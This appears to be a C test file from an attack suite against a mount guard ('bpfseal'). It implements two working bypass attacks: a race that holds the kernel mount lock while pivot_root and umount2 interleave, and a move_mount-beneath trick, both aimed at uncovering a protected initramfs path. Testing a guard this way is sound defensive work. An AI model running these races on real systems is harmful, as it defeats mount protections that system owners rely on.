// SPDX-License-Identifier: Apache-2.0
/*
 * umount(2) asks the guard before it takes the kernel's lock of the mount tree. Whoever moves mounts while it waits for the
 * lock has it unmount what the guard was not asked about.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define PLACE "/tmp/race"
#define NEW_ROOT PLACE "/new"
#define OLD_ROOT NEW_ROOT "/old"
/* On the initramfs, so below the system's root. */
#define COVERED "/usr/lib/bpfseal/init"

enum { DOUBLINGS = 14, STEP_US = 10000, TURNS = 10, NR_MOVE_MOUNT = 429, NR_FSOPEN = 430, NR_FSCONFIG = 431, NR_FSMOUNT = 432 };
enum { FROM_EMPTY_PATH = 4, BENEATH = 0x200, CONFIG_CREATE = 6 };

static int new_tmpfs(const char *path)
{
	mkdir(path, 0700);
	return mount("tmpfs", path, "tmpfs", 0, NULL) < 0 || mount(NULL, path, NULL, MS_PRIVATE, NULL) < 0 ? -errno : 0;
}

/* Twice as many each time. To copy them all takes the kernel a while, and it keeps the lock for so long. */
static void mount_many(void)
{
	char path[64];

	new_tmpfs(PLACE "/many");
	for (int i = 0; i < DOUBLINGS; i++) {
		snprintf(path, sizeof(path), PLACE "/many/%d", i);
		mkdir(path, 0700);
	}
	for (int i = 0; i < DOUBLINGS; i++) {
		snprintf(path, sizeof(path), PLACE "/many/%d", i);
		mount(PLACE "/many", path, NULL, MS_BIND | MS_REC, NULL);
	}
}

static pid_t in_child(void (*act)(void))
{
	pid_t child = fork();

	if (child == 0) {
		act();
		_exit(0);
	}
	return child;
}

static int ready[2];

/* The lock is one for all namespaces; so many mounts in the first one would keep the system's service manager busy. */
static void hold_lock(void)
{
	if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
		perror("namespace");
	mount_many();
	if (write(ready[1], "", 1) < 0)
		perror("pipe");
	unshare(CLONE_NEWNS);
}

static void pivot(void)
{
	if (syscall(SYS_pivot_root, NEW_ROOT, OLD_ROOT) < 0)
		_exit(errno);
}

static void umount_new_root(void)
{
	umount2(NEW_ROOT, MNT_DETACH);
}

/*
 * While the lock is held another root waits to be pivoted in; behind it waits an umount of what was no root when it began.
 * -EAGAIN if one of them came too early.
 */
static int pivot_and_umount(int ns)
{
	pid_t holder, pivoter, unmounter;
	int status;
	char byte;

	if (new_tmpfs(NEW_ROOT) < 0 || pipe(ready) < 0)
		return -EIO;
	mkdir(OLD_ROOT, 0700);
	holder = in_child(hold_lock);
	close(ready[1]);
	if (read(ready[0], &byte, 1) < 0)
		perror("pipe");
	close(ready[0]);
	usleep(STEP_US);
	pivoter = in_child(pivot);
	usleep(STEP_US);
	unmounter = in_child(umount_new_root);
	waitpid(holder, NULL, 0);
	waitpid(pivoter, &status, 0);
	waitpid(unmounter, NULL, 0);
	if (WEXITSTATUS(status) != 0) {
		umount2(NEW_ROOT, MNT_DETACH);
		return WEXITSTATUS(status) == EPERM ? -EPERM : -EAGAIN;
	}
	if (syscall(SYS_setns, ns, 0L) == 0 && access(COVERED, F_OK) == 0)
		return 0;
	/* The new root has become the root and stayed: back again. */
	return syscall(SYS_pivot_root, "/old", "/old" NEW_ROOT) < 0 || umount2(NEW_ROOT, MNT_DETACH) < 0 ? -EIO : -EAGAIN;
}

static int pivot_while_umount_waits(const struct scene *scene)
{
	int ns = open("/proc/self/ns/mnt", O_RDONLY), error = -EAGAIN;

	(void)scene;
	if (new_tmpfs(PLACE) < 0)
		return -EIO;
	for (int i = 0; i < TURNS && error == -EAGAIN; i++)
		error = pivot_and_umount(ns);
	umount2(PLACE, MNT_DETACH);
	return error;
}

/* A mount between the initramfs and its cover would make the old cover one that may be unmounted. */
static int mount_beneath_cover(const struct scene *scene)
{
	int fs = (int)syscall(NR_FSOPEN, "tmpfs", 0L), fd, root;

	(void)scene;
	syscall(NR_FSCONFIG, fs, (long)CONFIG_CREATE, NULL, NULL, 0L);
	fd = (int)syscall(NR_FSMOUNT, fs, 0L, 0L);
	root = open("/", O_PATH | O_DIRECTORY);
	/* Older kernels refuse it for the caller's own root. */
	if (new_tmpfs(PLACE) < 0 || chroot(PLACE) < 0)
		return -EIO;
	return result_of(syscall(NR_MOVE_MOUNT, fd, "", root, "", (long)(FROM_EMPTY_PATH | BENEATH | 0x40)));
}

const struct attack race_attacks[] = {
	{.name = "pivot-while-umount-waits", .run = pivot_while_umount_waits, .aim = AIM_ACT},
	{.name = "mount-beneath-cover", .run = mount_beneath_cover, .aim = AIM_ACT, .major = 7},
	{.name = NULL},
};
